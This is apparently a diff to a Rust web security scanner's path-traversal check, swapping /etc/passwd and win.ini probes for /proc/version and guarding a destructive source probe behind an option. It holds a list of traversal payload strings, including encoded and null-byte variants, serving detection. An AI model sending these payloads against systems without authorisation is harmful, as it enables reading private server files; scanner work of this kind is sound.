@@ -5,18 +5,14 @@ use crate::live::call::Answer;
 use crate::live::engine::{Engine, Stop};
 use crate::live::point::Point;
 
-/// Whether a text has a line of `/etc/passwd`.
-pub(super) fn is_passwd(text: &str) -> bool {
-    text.split("root:").skip(1).any(|rest| {
-        let mut parts = rest.split(':');
-        parts.next().is_some_and(|password| password.len() < 8)
-            && parts.next() == Some("0")
-            && parts.next() == Some("0")
-    })
-}
-
-fn is_windows(text: &str) -> bool {
-    text.contains("[fonts]") && text.contains("[extensions]")
+/// Whether a text is that of `/proc/version`.
+///
+/// A route may write the file that it is given the name of: the audit once emptied `/etc/passwd` that way. Nobody can write this
+/// one, so it is the only file that attacks name.
+pub(super) fn is_version(text: &str) -> bool {
+    text.split("Linux version ")
+        .skip(1)
+        .any(|rest| rest.starts_with(|c: char| c.is_ascii_digit()) && rest.contains('#'))
 }
 
 pub(super) async fn run(engine: &mut Engine, spot: &Spot) -> Result<(), Stop> {
@@ -29,41 +25,45 @@ pub(super) async fn run(engine: &mut Engine, spot: &Spot) -> Result<(), Stop> {
         .map(|(_, end)| end)
         .filter(|end| end.len() <= 5 && !end.is_empty());
     let mut forms = vec![
-        "/etc/PW".to_owned(),
-        "../../../../../../../../../../etc/PW".to_owned(),
-        "....//....//....//....//....//....//etc/PW".to_owned(),
-        "file:///etc/PW".to_owned(),
-        "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fPW".to_owned(),
-        "..\\..\\..\\..\\..\\..\\windows\\win.ini".to_owned(),
+        "/proc/PW".to_owned(),
+        "../../../../../../../../../../proc/PW".to_owned(),
+        "....//....//....//....//....//....//proc/PW".to_owned(),
+        "file:///proc/PW".to_owned(),
+        "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fPW".to_owned(),
     ];
     if let Some(end) = end {
-        forms.push(format!("../../../../../../../../etc/PW\0.{end}"));
+        forms.push(format!("../../../../../../../../proc/PW\0.{end}"));
     }
     if let Some((folder, _)) = spot
         .value
         .rsplit_once('/')
         .filter(|(folder, _)| !folder.is_empty())
     {
-        forms.push(format!("{folder}/../../../../../../../../etc/PW"));
+        forms.push(format!("{folder}/../../../../../../../../proc/PW"));
     }
     for form in forms {
-        let (call, answer) = spot.attack(engine, &form.replace("PW", "passwd")).await?;
-        if !(is_passwd(&answer.text) || is_windows(&answer.text)) || is_passwd(&spot.base.text) {
+        let (call, answer) = spot.attack(engine, &form.replace("PW", "version")).await?;
+        if !(is_version(&answer.text)) || is_version(&spot.base.text) {
             continue;
         }
         // A page that shows the file to every request proves nothing.
-        let (_, control) = spot
-            .attack(
+        let (_, control) = spot.attack(engine, &form.replace("PW", "versiom")).await?;
+        if !is_version(&control.text) {
+            spot.report(
                 engine,
-                &form.replace("PW", "passwe").replace("win.ini", "wim.ini"),
-            )
-            .await?;
-        if !is_passwd(&control.text) && !is_windows(&control.text) {
-            spot.report(engine, "live-path-traversal", &call, &answer, "root:");
+                "live-path-traversal",
+                &call,
+                &answer,
+                "Linux version",
+            );
             return Ok(());
         }
     }
-    source(engine, spot).await
+    // A route that writes would empty the program's own source.
+    if engine.options.dangerous_destructive {
+        source(engine, spot).await?;
+    }
+    Ok(())
 }
 
 /// The program's own source, for a place that only reads beside itself.
@@ -137,9 +137,12 @@ mod tests {
     use super::*;
 
     #[test]
-    fn a_line_of_the_file_is_seen_and_its_name_is_not() {
-        assert!(is_passwd("root:x:0:0:root:/root:/bin/bash"));
-        assert!(is_passwd("<pre>root:x:0:0:root"));
-        assert!(!is_passwd("no such file: /etc/passwd; root: none"));
+    fn the_text_of_the_file_is_seen_and_its_name_is_not() {
+        assert!(is_version(
+            "<pre>Linux version 6.1.0-9-amd64 (gcc 12) #1 SMP"
+        ));
+        assert!(!is_version(
+            "no such file: /proc/version; Linux version unknown"
+        ));
     }
 }
